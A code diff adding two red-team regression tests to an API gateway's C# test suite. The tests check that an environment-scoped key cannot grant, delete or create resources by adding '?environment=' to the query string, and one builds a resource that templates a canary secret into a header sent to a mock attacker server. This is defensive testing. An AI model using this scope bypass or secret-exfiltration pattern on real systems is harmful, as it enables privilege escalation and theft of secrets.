@@ -241,6 +241,66 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     }
 
     /// <summary>
+    /// A key scoped to one environment "does not edit, delete or grant on resources" (docs/security.md):
+    /// a resource's configuration belongs to every environment. The access filter reads the environment
+    /// from <c>?environment=</c> on every route, so naming the key's own environment in the query string
+    /// of a resource route makes the scope check pass where the handler does not demand again.
+    /// </summary>
+    [Fact]
+    public async Task A_key_scoped_to_one_environment_neither_deletes_nor_grants_on_a_resource_by_naming_that_environment()
+    {
+        var staging = KeywayFixture.Unique("stg");
+        await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
+        var resource = KeywayFixture.Unique("kept");
+        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, null));
+        var (owner, _) = await MemberAsync();
+        await Grant(resource, owner, "own");
+        var (friend, _) = await MemberAsync();
+        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys",
+            new { name = "staging-only", owner, scopes = new { environments = new[] { staging } } }), 201);
+        using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);
+
+        await Expect.ProblemAsync(await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions", new { user = friend, permission = "own" }), 403, "forbidden");
+        await Expect.ProblemAsync(await scoped.DeleteAsync($"/api/v1/resources/{resource}"), 403, "forbidden");
+        var granted = await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions?environment={staging}", new { user = friend, permission = "own" });
+        var deleted = await scoped.DeleteAsync($"/api/v1/resources/{resource}?environment={staging}");
+
+        Assert.True((int)granted.StatusCode == 403 && (int)deleted.StatusCode == 403,
+            $"The staging-scoped key granted 'own' on '{resource}' ({(int)granted.StatusCode} {await granted.Content.ReadAsStringAsync()}) " +
+            $"and deleted it ({(int)deleted.StatusCode}).");
+        await Expect.StatusAsync(await Admin.GetAsync($"/api/v1/resources/{resource}"), 200);
+    }
+
+    /// <summary>
+    /// The same query-string environment lets an admin's staging-scoped key create a resource, which
+    /// the admin's rights let attach any secret: a stolen staging key then sends every unbound staging
+    /// secret to a server of the thief's.
+    /// </summary>
+    [Fact]
+    public async Task A_key_scoped_to_one_environment_cannot_create_a_resource_that_sends_that_environments_secrets_away()
+    {
+        var staging = KeywayFixture.Unique("stg");
+        await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
+        var canary = "CANARY_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
+        var value = "canary-" + Guid.NewGuid().ToString("N");
+        await fixture.SetVariableAsync(canary, value, secret: true, environment: staging);
+        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys",
+            new { name = "staging-only", scopes = new { environments = new[] { staging } } }), 201);
+        using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);
+        var resource = KeywayFixture.Unique("stolen");
+        var definition = Resource(_attacker.BaseUrl, new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null);
+
+        await Expect.ProblemAsync(await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 403, "forbidden");
+        var created = await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}?environment={staging}", definition);
+        var run = created.IsSuccessStatusCode
+            ? await scoped.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/staging", environment = staging })
+            : created;
+
+        Assert.True(!created.IsSuccessStatusCode, $"The staging-scoped key created '{resource}' ({(int)created.StatusCode}); run {(int)run.StatusCode}.");
+        Assert.DoesNotContain(_attacker.Requests, r => r.Headers.Values.Any(v => v.Contains(value, StringComparison.Ordinal)));
+    }
+
+    /// <summary>
     /// A builder's new resource is given only the secrets they may attach: however a template reaches
     /// for the variables (through the global object, <c>this</c>, a computed name, every value at once),
     /// it finds only plain ones, and the attacker's server receives no secret.
